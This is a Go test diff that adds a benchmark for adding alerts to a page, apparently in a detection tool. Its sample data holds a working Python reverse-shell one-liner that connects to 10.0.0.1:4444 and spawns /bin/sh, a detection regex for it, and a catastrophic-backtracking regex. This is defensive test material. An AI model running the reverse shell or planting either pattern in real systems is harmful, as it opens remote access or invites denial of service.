@@ -288,3 +288,23 @@ func TestTerminal(t *testing.T) {
 		t.Errorf("%d branches, want %d", n, maxDepth-1)
 	}
 }
+
+// BenchmarkPage adds alerts of ordinary size; the bound on marks holds for those of hostile ones.
+func BenchmarkPage(b *testing.B) {
+	for _, bb := range []struct {
+		name, text, words string
+	}{
+		{"ordinary", "import socket,os,pty;s=socket.create_connection(('10.0.0.1',4444));pty.spawn('/bin/sh')", `\bspawn["']?\s*\)?\s*\(`},
+		{"hostile", strings.Repeat("a", 100_000), `(a+)+$(?<=b)`},
+	} {
+		b.Run(bb.name, func(b *testing.B) {
+			b.ReportAllocs()
+			p := new(Page)
+			a := sample(1, bb.text)
+			a.Evidence = slices.Repeat([]rule.Evidence{{Field: "CommandLine", Value: bb.text, Match: bb.words}}, 1)
+			for b.Loop() {
+				p.Add(a)
+			}
+		})
+	}
+}
